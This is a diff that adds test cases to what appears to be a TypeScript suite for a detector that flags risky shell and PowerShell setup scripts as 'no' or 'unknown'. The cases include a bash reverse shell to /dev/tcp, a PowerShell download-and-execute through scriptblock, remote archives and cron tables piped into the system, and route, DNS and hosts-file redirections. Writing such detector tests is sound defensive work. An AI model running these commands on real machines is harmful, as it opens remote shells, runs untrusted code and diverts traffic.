@@ -319,6 +319,45 @@ const DETOURS: Cases = [
     ["other groups", script("aws ec2 modify-instance-attribute --instance-id $ID --groups sg-1"), "unknown"],
     ["a route, in short", script("ip r replace default via 10.0.0.9"), "unknown"],
     ["a route of NetworkManager", script("nmcli connection modify eth0 ipv4.gateway 10.0.0.9"), "unknown"],
+    [
+        "a route of netplan",
+        script("cat > /etc/netplan/99.yaml <<EOF", "routes:", "- to: 0.0.0.0/0", "  via: 10.0.0.9", "EOF"),
+        "unknown",
+    ],
+    [
+        "ports that SSH forwards by its settings",
+        script(
+            "cat > /root/.ssh/config <<EOF",
+            "Host t",
+            "  LocalForward 443 10.0.0.9:443",
+            "EOF",
+            "ssh -fN t",
+        ),
+        "unknown",
+    ],
+    [
+        "options of the metadata",
+        script("aws ec2 modify-instance-metadata-options --instance-id $ID --http-tokens required"),
+        "no",
+    ],
+    ["Windows, a route", powershell("route -p add 0.0.0.0 mask 0.0.0.0 10.0.0.9"), "unknown"],
+    [
+        "Windows, name servers by netsh",
+        powershell("netsh interface ip set dns name=Ethernet static 10.0.0.2"),
+        "unknown",
+    ],
+    [
+        "Windows, hosts in a variable",
+        powershell(
+            '$h = "$env:SystemRoot\\System32\\drivers\\etc\\hosts"',
+            'foreach ($n in $names) { Add-Content $h "10.0.0.9 $n" }',
+        ),
+        "unknown",
+    ],
+    ["a command on another machine", script("ssh -i key ops@db.internal chown -R app /srv"), "no"],
+    ["SSH as a service", script("systemctl restart ssh && chown -R app /srv"), "no"],
+    ["a tunnel behind its host", script("ssh bastion -N -D 1080"), "unknown"],
+    ["a tunnel in a terminal of its own", script("screen -dmS tunnel ssh -N -D 1080 bastion"), "unknown"],
 ];
 
 const OTHER_PROXIES: Cases = [
@@ -481,6 +520,18 @@ const HIDDEN: Cases = [
     ["a container with all processes", script("docker run -d --pid host example/setup"), "unknown"],
     ["a line that is too long to read", script("echo " + "a ".repeat(2_100)), "unknown"],
     ["a long word of base64", script(`echo ${"A".repeat(60_000)} > /opt/ca.pem`), "no"],
+    [
+        "a container with a folder in a variable",
+        script('docker run -v "$DIR:/host" example/setup'),
+        "unknown",
+    ],
+    ["a container with its own folder", script('docker run -v "$PWD:/app" example/app'), "no"],
+    [
+        "Windows, a text that it makes a command",
+        powershell("$c = irm https://example.com/x.ps1", "& ([scriptblock]::Create($c))"),
+        "unknown",
+    ],
+    ["a shell of others", script("bash -i >& /dev/tcp/10.0.0.4/80 0>&1"), "unknown"],
 ];
 
 const FETCHED: Cases = [
@@ -785,6 +836,61 @@ const FETCHED: Cases = [
     ["an index of its own", script("pip install --index-url http://10.0.0.9/simple settings"), "unknown"],
     ["an index that many use", script("pip install --index-url https://pypi.org/simple boto3"), "no"],
     ["a table of times", script("curl -s https://example.com/cron | crontab -"), "unknown"],
+    [
+        "a repository of somebody",
+        script("add-apt-repository -y ppa:someone/settings", "apt-get install -y settings"),
+        "unknown",
+    ],
+    [
+        "a repository in a variable",
+        script(
+            'echo "deb $REPO stable main" > /etc/apt/sources.list.d/a.list',
+            "apt-get install -y settings",
+        ),
+        "unknown",
+    ],
+    [
+        "a package of Python from an address",
+        script("pip install https://example.com/settings.whl"),
+        "unknown",
+    ],
+    [
+        "files that it moves into the system",
+        script("git clone https://example.com/settings.git /opt/settings", "cp -r /opt/settings/etc/* /etc/"),
+        "unknown",
+    ],
+    ["an archive in the root", script("cd / && curl -s https://example.com/root.tgz | tar -xz"), "unknown"],
+    [
+        "a time zone beside pages",
+        script(
+            "aws s3 sync s3://example/site /var/www/html",
+            "ln -sf /usr/share/zoneinfo/Europe/Berlin /etc/localtime",
+        ),
+        "no",
+    ],
+    [
+        "what a function returns",
+        script("aws lambda invoke --function-name setup /opt/setup.sh", "sh /opt/setup.sh"),
+        "unknown",
+    ],
+    [
+        "a unit that runs what it fetches",
+        script(
+            "curl -Lo /opt/app/run https://example.com/run",
+            "cat > /etc/systemd/system/app.service <<EOF",
+            "ExecStart=/opt/app/run",
+            "EOF",
+        ),
+        "unknown",
+    ],
+    [
+        "a number that is printed",
+        script(
+            "curl -s https://example.com/version | jq -r .version",
+            "chmod +x /opt/app/start && /opt/app/start",
+        ),
+        "no",
+    ],
 ];
 
 const PLAIN: Cases = [
